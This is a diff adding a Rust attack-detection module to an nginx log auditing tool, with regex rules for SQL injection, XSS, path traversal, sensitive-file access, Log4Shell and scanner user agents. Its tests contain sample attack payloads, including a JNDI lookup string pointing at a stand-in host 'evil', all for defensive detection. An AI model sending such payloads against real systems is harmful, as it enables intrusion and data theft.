@@ -0,0 +1,273 @@
+use std::net::IpAddr;
+
+use chrono::{DateTime, Utc};
+use regex::Regex;
+use serde::Serialize;
+use strum_macros::Display;
+
+use crate::{percent::percent_decode_once, NginxLog};
+
+#[derive(
+    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Display, clap::ValueEnum,
+)]
+#[serde(rename_all = "snake_case")]
+#[strum(serialize_all = "snake_case")]
+pub enum Severity {
+    Low,
+    Medium,
+    High,
+    Critical,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Target {
+    /// url and referer
+    Request,
+    UserAgent,
+    Any,
+}
+
+// (id, severity, target, pattern), matched case-insensitively against
+// percent-decoded values.
+const RULES: &[(&str, Severity, Target, &str)] = &[
+    (
+        "sqli-union",
+        Severity::High,
+        Target::Request,
+        r"union(\s|/\*.*?\*/)+(all\s+)?select",
+    ),
+    (
+        "sqli-tautology",
+        Severity::High,
+        Target::Request,
+        r#"['"]\s*(or|and)\s+['"]?\w+['"]?\s*=\s*['"]?\w+"#,
+    ),
+    (
+        "sqli-time",
+        Severity::High,
+        Target::Request,
+        r"(sleep|benchmark|pg_sleep)\s*\(|waitfor\s+delay",
+    ),
+    (
+        "sqli-schema",
+        Severity::Medium,
+        Target::Request,
+        r"information_schema|sysobjects|@@version",
+    ),
+    ("xss-script", Severity::High, Target::Request, r"<\s*script"),
+    (
+        "xss-handler",
+        Severity::Medium,
+        Target::Request,
+        r"<[^>]*\bon[a-z]+\s*=",
+    ),
+    (
+        "xss-uri",
+        Severity::Medium,
+        Target::Request,
+        r"javascript:|vbscript:|data:text/html",
+    ),
+    (
+        "path-traversal",
+        Severity::High,
+        Target::Request,
+        r"(\.\.[/\\]){1,}|[/\\]\.\.$",
+    ),
+    (
+        "sensitive-file",
+        Severity::Medium,
+        Target::Request,
+        r"/etc/(passwd|shadow)|win\.ini|/\.env\b|/\.git/",
+    ),
+    (
+        "log4shell",
+        Severity::Critical,
+        Target::Any,
+        r"\$\{\s*(jndi|\$\{|(lower|upper|env|sys|::-))",
+    ),
+    (
+        "scanner-ua",
+        Severity::Low,
+        Target::UserAgent,
+        r"sqlmap|nikto|nmap|masscan|zgrab|nuclei|wpscan|dirbuster|gobuster|acunetix|w3af|fimap|havij",
+    ),
+];
+
+/// A flagged record as written by `nginx-log audit`.
+#[derive(Debug, Serialize)]
+pub struct AuditRecord<'a> {
+    pub time: DateTime<Utc>,
+    pub addr: IpAddr,
+    pub method: String,
+    pub url: &'a str,
+    pub referer: &'a str,
+    pub user_agent: &'a str,
+    #[serde(flatten)]
+    pub attack: AttackMatch,
+}
+
+impl<'a> AuditRecord<'a> {
+    pub fn new(log: &'a NginxLog, attack: AttackMatch) -> Self {
+        Self {
+            time: log.datetime,
+            addr: log.client(),
+            method: log.method.to_string(),
+            url: &log.url,
+            referer: &log.referer,
+            user_agent: &log.user_agent,
+            attack,
+        }
+    }
+}
+
+/// The rules a record matched and the highest of their severities.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct AttackMatch {
+    pub rules: Vec<&'static str>,
+    pub severity: Severity,
+}
+
+pub struct AttackDetector {
+    rules: Vec<(&'static str, Severity, Target, Regex)>,
+}
+
+impl Default for AttackDetector {
+    fn default() -> Self {
+        let rules = RULES
+            .iter()
+            .map(|(id, severity, target, pattern)| {
+                let re = Regex::new(&format!("(?i){}", pattern)).expect("valid attack rule");
+                (*id, *severity, *target, re)
+            })
+            .collect();
+        Self { rules }
+    }
+}
+
+impl AttackDetector {
+    pub fn scan(&self, log: &NginxLog) -> Option<AttackMatch> {
+        let url = percent_decode(&log.url);
+        let referer = percent_decode(&log.referer);
+        let user_agent = percent_decode(&log.user_agent);
+
+        let mut rules = Vec::new();
+        let mut severity = Severity::Low;
+        for (id, sev, target, re) in &self.rules {
+            let hit = match target {
+                Target::Request => re.is_match(&url) || re.is_match(&referer),
+                Target::UserAgent => re.is_match(&user_agent),
+                Target::Any => [&url, &referer, &user_agent].iter().any(|v| re.is_match(v)),
+            };
+            if hit {
+                rules.push(*id);
+                severity = severity.max(*sev);
+            }
+        }
+
+        (!rules.is_empty()).then_some(AttackMatch { rules, severity })
+    }
+}
+
+/// Decode `%XX` escapes and `+`, repeating to undo double encoding such as `%252e`.
+pub fn percent_decode(s: &str) -> String {
+    let mut current = s.to_string();
+    for _ in 0..3 {
+        let decoded = percent_decode_once(&current);
+        if decoded == current {
+            break;
+        }
+        current = decoded;
+    }
+    current
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn percent_decode_should_work() {
+        assert_eq!(percent_decode("/a%20b+c"), "/a b c");
+        assert_eq!(percent_decode("%252e%252e%252f"), "../");
+        assert_eq!(percent_decode("100%"), "100%");
+        assert_eq!(percent_decode("%zz%4"), "%zz%4");
+    }
+
+    #[test]
+    fn scan_should_match_rules() {
+        let d = AttackDetector::default();
+        let cases = [
+            (
+                "/item?id=1%20UNION%20SELECT%20password",
+                "sqli-union",
+                Severity::High,
+            ),
+            (
+                "/login?u=admin%27%20or%20%271%27=%271",
+                "sqli-tautology",
+                Severity::High,
+            ),
+            (
+                "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+                "xss-script",
+                Severity::High,
+            ),
+            (
+                "/static/%2e%2e/%2e%2e/etc/passwd",
+                "path-traversal",
+                Severity::High,
+            ),
+            ("/?x=${jndi:ldap://evil/a}", "log4shell", Severity::Critical),
+            (
+                "/?x=${${lower:j}ndi:ldap://evil/a}",
+                "log4shell",
+                Severity::Critical,
+            ),
+        ];
+        for (url, rule, severity) in cases {
+            let m = d
+                .scan(
+                    &NginxLog::builder()
+                        .url(url)
+                        .user_agent("Mozilla/5.0")
+                        .build(),
+                )
+                .unwrap();
+            assert!(m.rules.contains(&rule), "{} should match {}", url, rule);
+            assert_eq!(m.severity, severity, "{}", url);
+        }
+
+        let m = d
+            .scan(
+                &NginxLog::builder()
+                    .user_agent("sqlmap/1.7.2#stable (https://sqlmap.org)")
+                    .build(),
+            )
+            .unwrap();
+        assert_eq!(m.rules, vec!["scanner-ua"]);
+        assert_eq!(m.severity, Severity::Low);
+    }
+
+    #[test]
+    fn scan_should_ignore_benign_requests() {
+        let d = AttackDetector::default();
+        assert_eq!(
+            d.scan(
+                &NginxLog::builder()
+                    .url("/downloads/product_1")
+                    .user_agent("Debian APT-HTTP/1.3")
+                    .build()
+            ),
+            None
+        );
+        assert_eq!(
+            d.scan(
+                &NginxLog::builder()
+                    .url("/search?q=select+a+union+rep")
+                    .user_agent("Mozilla/5.0")
+                    .build()
+            ),
+            None
+        );
+    }
+}